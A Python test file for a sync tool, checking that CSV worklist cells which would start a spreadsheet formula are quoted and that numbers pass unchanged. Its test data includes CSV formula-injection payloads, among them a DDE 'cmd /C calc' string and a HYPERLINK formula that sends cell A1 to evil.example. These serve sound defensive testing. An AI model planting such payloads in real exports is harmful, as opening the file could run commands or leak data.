"""CSV cells safe to open in a spreadsheet (issue 15, point 5): formula injection neutralised
in the worklist CSV, numbers written as numbers left alone."""

from __future__ import annotations

import csv
import datetime as dt
from decimal import Decimal
from functools import partial

import pytest
from sync_helpers import IBM_EXCERPT, file_settings, simple_planner, write_config

from arwatch.core.cells import FORMULA_STARTS, safe_cell, safe_row
from arwatch.core.clock import fixed_clock
from arwatch.core.policy import Policy
from arwatch.sync.config import load_config, load_secrets
from arwatch.sync.runner import run_sync
from arwatch.sync.sources import make_adapter
from arwatch.sync.store import open_store

TODAY = dt.date(2013, 6, 1)


@pytest.mark.parametrize("text", ["=1+1", "+1-2", "-3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1", "\r=1",
                                  "-42", '=HYPERLINK("https://evil.example","click")'])
def test_safe_cell__text_a_spreadsheet_would_run_gets_a_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["plain", "", "0465-DTULQ", "level high (80)", "'=already quoted", " =1",
                                   -42, -1.5, Decimal("-12.50"), 0, None, dt.date(2013, 6, 1)])
def test_safe_cell__other_text_and_numbers_written_as_numbers_stay_as_they_are(value):
    assert safe_cell(value) == value and type(safe_cell(value)) is type(value)


def test_safe_row__every_text_cell_and_no_number():
    assert safe_row({"id": "=cmd", "amount": -5, "note": "-5", "name": "ok"}) == {
        "id": "'=cmd", "amount": -5, "note": "'-5", "name": "ok"}


HOSTILE_IDS = {"0465-DTULQ": '=HYPERLINK("https://evil.example/?x="&A1,"Details")',
               "0688-XNJRO": "+1+cmd|' /C calc'!A0", "0706-NRGUP": "-2+3", "0709-LZRJV": "@SUM(A1)",
               "1408-OQZUE": "=SUM(1,2)"}  # (the file reader strips tabs and CRs at the ends)


def test_worklist_csv__customer_ids_that_are_formulas_come_back_quoted(tmp_path):
    """Round trip: an export whose customer ids are formulas -> sync -> the outbox worklist read
    back with the csv module: each such cell is the id behind a quote, no cell starts a formula."""
    rows = list(csv.DictReader(IBM_EXCERPT.open(newline="")))
    for row in rows:
        row["customerID"] = HOSTILE_IDS.get(row["customerID"], row["customerID"])
    export = tmp_path / "export.csv"
    with export.open("w", newline="") as handle:
        writer = csv.DictWriter(handle, rows[0].keys())
        writer.writeheader()
        writer.writerows(rows)
    config = load_config(write_config(tmp_path / "arwatch.toml", {"ibm": {"source": "file", "settings": file_settings(
        export, tmp_path / "outbox")}}))
    store = open_store(tmp_path / "state.sqlite3")
    adapter = make_adapter(config.company("ibm"), config, store, load_secrets(None, {}), fixed_clock(TODAY))
    summary = run_sync("ibm", store, adapter, Policy(), TODAY,
                       planner=partial(simple_planner, hold=set(HOSTILE_IDS.values())))
    assert summary.status == "ok" and summary.counts["holds"]["created"] == 5
    with (tmp_path / "outbox" / "worklist.csv").open(newline="", encoding="utf-8") as handle:
        worklist = list(csv.DictReader(handle))
    assert {r["customer_id"] for r in worklist if r["kind"] == "hold"} == {"'" + v for v in HOSTILE_IDS.values()}
    assert {r["customer_id"] for r in worklist if r["kind"] == "flag"} == \
        {"'" + v for v in HOSTILE_IDS.values()} | {"2026-XLBER"}
    assert not [cell for row in worklist for cell in row.values() if cell.startswith(FORMULA_STARTS)]
    # what arwatch itself keeps is the real id, unquoted: only the spreadsheet copy is neutralised
    assert {h.customer_id for h in store.written.state("ibm").holds} == set(HOSTILE_IDS.values())
